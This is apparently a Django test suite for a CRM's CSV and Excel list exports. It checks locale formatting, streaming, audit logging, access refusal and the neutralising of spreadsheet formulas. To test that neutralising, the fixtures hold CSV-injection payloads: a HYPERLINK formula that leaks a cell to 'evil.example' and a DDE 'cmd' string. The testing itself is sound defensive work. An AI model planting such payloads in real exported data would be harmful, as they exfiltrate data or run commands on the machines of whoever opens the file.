"""What every list export promises: the user's locale in CSV, a table in Excel, no formula
anywhere, streamed, logged, and refused to whoever may not see the list."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import time_machine
from auditlog.models import LogEntry
from django.http import FileResponse, StreamingHttpResponse
from openpyxl import load_workbook

from tenure.crm.customers.models import Customer, Tag
from tenure.crm.engagement.models import Complaint
from tenure.crm.insights.models import CustomerSnapshot, InsightsRun
from tenure.crm.lib import exports
from tenure.crm.lib.exports import Kind
from tenure.crm.privacy.auditing import describe
from tenure.crm.sales.models import Order, OrderStatus
from tenure.crm.testing import TenureTestCase

NOW = datetime(2026, 3, 15, 12, 0, tzinfo=UTC)
TAKEN = date(2026, 3, 14)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'
FORMULA_STARTS = ("=", "+", "@")
# list -> (address, what the audit log calls it)
LISTS = {
    "customers": ("/customers/", "customer list"),
    "at risk": ("/insights/at-risk/", "at-risk list"),
    "orders": ("/sales/orders/", "order list"),
    "complaints": ("/engagement/complaints/", "complaint list"),
}


def read_csv(response, delimiter: str) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff"), "no BOM: Excel would not detect UTF-8"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def comma_decimal(text: str) -> Decimal:
    """Read a number written with a decimal comma, refusing any other shape."""
    assert "." not in text and text.count(",") == 1, text
    return Decimal(text.replace(",", "."))


@time_machine.travel(NOW, tick=False)
class ListExportTestCase(TenureTestCase):
    """Olena (Bob's) is tagged, consents by email and phone, bought for 150.50 and has
    scores; the hostile customer (Carol's) is at risk, bought and complained."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.olena = Customer.objects.create(
            name="Олена Коваленко", email="olena@example.org", city="Київ", external_id="C-1",
            manager=cls.manager, consent_email=True, consent_phone=True)
        cls.olena.tags.set([Tag.objects.create(name="vip"), Tag.objects.create(name="опт")])
        cls.evil = Customer.objects.create(name=HYPERLINK, city="@SUM(1+1)",
                                           manager=cls.other_manager)
        for number, (customer, total, day) in enumerate([
                (cls.olena, "100.00", date(2026, 1, 10)), (cls.olena, "50.50", date(2026, 3, 2)),
                (cls.evil, "20.00", date(2026, 3, 5))]):
            Order.objects.create(external_id=f"E{number}", customer=customer,
                                 total=Decimal(total), status=OrderStatus.COMPLETED,
                                 channel="=1+2", ordered_at=datetime.combine(
                                     day, datetime.min.time(), UTC) + timedelta(hours=10))
        Complaint.objects.register(cls.evil, category="product", description="=cmd|' /C'!A0",
                                   opened_at=NOW - timedelta(days=1))
        InsightsRun.objects.create(as_of=TAKEN, status=InsightsRun.Status.DONE,
                                   finished_at=NOW, results={"churn": {"scored": 2}})
        CustomerSnapshot.objects.create(
            customer=cls.olena, taken_on=TAKEN, segment="champions", clv=Decimal("1234.56"),
            churn_risk=0.3125, p_alive=0.8)
        CustomerSnapshot.objects.create(
            customer=cls.evil, taken_on=TAKEN, segment="at_risk", clv=Decimal("100.00"),
            churn_risk=0.9, p_alive=0.25, last_purchase=date(2026, 3, 5))

    def export(self, address: str, kind: str, language: str = "en", user=None, query=""):
        self.login(user or self.admin)
        return self.client.get(f"{address}?{query}&format={kind}",
                               headers={"accept-language": language})

    def olena_row(self, rows: list[list[str]]) -> list[str]:
        return next(row for row in rows[1:] if row[1] == "Олена Коваленко")

    def test_a_russian_csv_uses_semicolons_and_decimal_commas_that_read_back_exactly(self):
        rows = read_csv(self.export("/customers/", "csv", "ru"), delimiter=";")

        header = rows[0]
        self.assertEqual((header[1], header[7], header[17]), ("Имя", "Выручка", "Теги"))
        self.assertTrue(all(len(row) == len(header) == 18 for row in rows))
        olena = dict(zip(header, self.olena_row(rows), strict=True))
        self.assertEqual(comma_decimal(olena["Выручка"]), Decimal("150.50"))
        self.assertEqual(olena["Выручка"], "150,50")
        self.assertEqual(comma_decimal(olena[header[10]]), Decimal("1234.56"))  # CLV
        self.assertEqual(comma_decimal(olena[header[11]]), Decimal("0.3125"))  # churn risk
        self.assertEqual(comma_decimal(olena[header[12]]), Decimal("0.8"))  # P(alive)
        self.assertEqual([olena[h] for h in header[13:17]], ["да", "нет", "нет", "да"])
        self.assertEqual(olena["Теги"], "vip, опт")
        self.assertEqual(olena[header[8]], "2026-03-02")  # ISO dates in every language

    def test_a_ukrainian_csv_uses_semicolons_and_decimal_commas_too(self):
        rows = read_csv(self.export("/customers/", "csv", "uk"), delimiter=";")
        self.assertEqual(self.olena_row(rows)[7], "150,50")

    def test_an_english_csv_uses_commas_and_decimal_points(self):
        rows = read_csv(self.export("/customers/", "csv", "en"), delimiter=",")
        olena = self.olena_row(rows)
        self.assertEqual(len(olena), 18)
        self.assertEqual(olena[7:13], ["150.50", "2026-03-02", "Champions", "1234.56",
                                       "0.3125", "0.8000"])
        self.assertEqual(olena[13:], ["yes", "no", "no", "yes", "vip, опт"])

    def test_excel_has_a_frozen_bold_header_a_filter_and_typed_cells(self):
        response = self.export("/customers/", "xlsx", "ru")
        self.assertIsInstance(response, FileResponse)
        sheet = load_workbook(io.BytesIO(response.getvalue())).active

        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, "A1:R3")
        self.assertEqual(sheet.max_row, 3)
        self.assertTrue(all(cell.font.b for cell in sheet[1]))
        self.assertEqual(sheet["B1"].value, "Имя")
        row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "Олена Коваленко")
        revenue, last, clv, risk, p_alive = row[7], row[8], row[10], row[11], row[12]
        self.assertEqual((revenue.data_type, revenue.value), ("n", 150.5))
        self.assertEqual(revenue.number_format, "#,##0.00")
        self.assertEqual((clv.data_type, clv.value), ("n", 1234.56))
        self.assertEqual((risk.data_type, risk.value, p_alive.value), ("n", 0.3125, 0.8))
        self.assertIn("%", risk.number_format)
        self.assertTrue(last.is_date)
        self.assertEqual(last.value, datetime(2026, 3, 2))
        self.assertEqual(row[13].value, "да")
        # As wide as the longest name; the header's filter button fits beside its title.
        self.assertGreaterEqual(sheet.column_dimensions["B"].width, len(HYPERLINK) + 1)
        self.assertGreaterEqual(sheet.column_dimensions["H"].width, len("Выручка") + 3)

    def test_every_export_neutralises_formulas(self):
        for name, (address, _what) in LISTS.items():
            with self.subTest(name, kind="csv"):
                rows = read_csv(self.export(address, "csv", query="risk=0.1"), delimiter=",")
                cells = [cell for row in rows for cell in row]
                self.assertTrue(any(cell.startswith("'=") for cell in cells), cells)
                self.assertFalse([c for c in cells if c.startswith(FORMULA_STARTS)])
            with self.subTest(name, kind="xlsx"):
                response = self.export(address, "xlsx", query="risk=0.1")
                sheet = load_workbook(io.BytesIO(response.getvalue())).active
                cells = [cell for row in sheet.iter_rows() for cell in row]
                self.assertFalse([c.value for c in cells if c.data_type == "f"])
                self.assertFalse([c.value for c in cells if isinstance(c.value, str)
                                  and c.value.startswith(FORMULA_STARTS)])
                self.assertTrue(any(str(c.value).startswith("'=") for c in cells))

    def test_every_csv_export_streams(self):
        for name, (address, _what) in LISTS.items():
            with self.subTest(name):
                response = self.export(address, "csv", query="risk=0.1")
                self.assertIsInstance(response, StreamingHttpResponse)
                self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
                self.assertIn(f"-{NOW.date().isoformat()}.csv", response["Content-Disposition"])

    def test_every_export_is_logged_with_its_list_filters_and_size(self):
        for name, (address, what) in LISTS.items():
            with self.subTest(name):
                response = self.export(address, "xlsx", query="risk=0.1")
                self.assertEqual(response.status_code, 200)
                entry = LogEntry.objects.get(object_repr=what)
                self.assertEqual(entry.actor, self.admin)
                self.assertEqual(entry.additional_data["format"], "xlsx")
                self.assertEqual(entry.additional_data["filters"], {"risk": ["0.1"]})
                self.assertGreater(entry.additional_data["rows"], 0)
                self.assertEqual(describe(entry).action, "Exported")
        subjects = {describe(e).subject for e in LogEntry.objects.filter(object_pk="")}
        self.assertEqual(subjects, {"Customer list", "At-risk list", "Order list",
                                    "Complaint list"})

    def test_who_may_not_see_a_list_may_not_export_it(self):
        for name, (address, _what) in LISTS.items():
            for kind in exports.FORMATS:
                with self.subTest(name, kind=kind):
                    self.assertEqual(self.export(address, kind, user=self.nobody).status_code,
                                     403)
        self.assertFalse(LogEntry.objects.filter(object_pk="").exists())

    def test_every_list_page_offers_its_exports_with_its_filters(self):
        self.login(self.admin)
        for name, (address, _what) in LISTS.items():
            with self.subTest(name):
                response = self.client.get(f"{address}?risk=0.1&format=nonsense")
                self.assertContains(response, 'href="?risk=0.1&amp;format=csv"')
                self.assertContains(response, 'href="?risk=0.1&amp;format=xlsx"')


class CellTestCase(TenureTestCase):
    """How one cell is written, and how rows are read."""

    def test_it_writes_numbers_in_the_languages_convention(self):
        self.assertEqual(exports.csv_convention("ru"), (";", ","))
        self.assertEqual(exports.csv_convention("uk"), (";", ","))
        self.assertEqual(exports.csv_convention("en"), (",", "."))
        self.assertEqual(exports.csv_text(Decimal("-1234.5"), Kind.MONEY, ","), "-1234,50")
        # A float keeps its shortest form: 0.1 + 0.2 is 0.3000, not 0.30000000000000004.
        self.assertEqual(exports.csv_text(0.1 + 0.2, Kind.SHARE, ","), "0,3000")
        self.assertEqual(exports.csv_text(2.675, Kind.MONEY), "2.68")
        self.assertEqual(exports.csv_text(None, Kind.MONEY), "")

    def test_it_writes_times_in_the_shops_zone(self):
        with self.settings(TIME_ZONE="Europe/Kyiv"):
            moment = datetime(2026, 3, 1, 22, 30, tzinfo=UTC)
            self.assertEqual(exports.csv_text(moment, Kind.DATETIME), "2026-03-02 00:30")

    def test_it_reads_rows_a_chunk_at_a_time(self):
        Customer.objects.bulk_create([Customer(name=f"C{i}") for i in range(5)])
        sizes = [len(chunk) for chunk in exports.chunks(Customer.objects.order_by("pk"), 2)]
        self.assertEqual(sizes, [2, 2, 1])
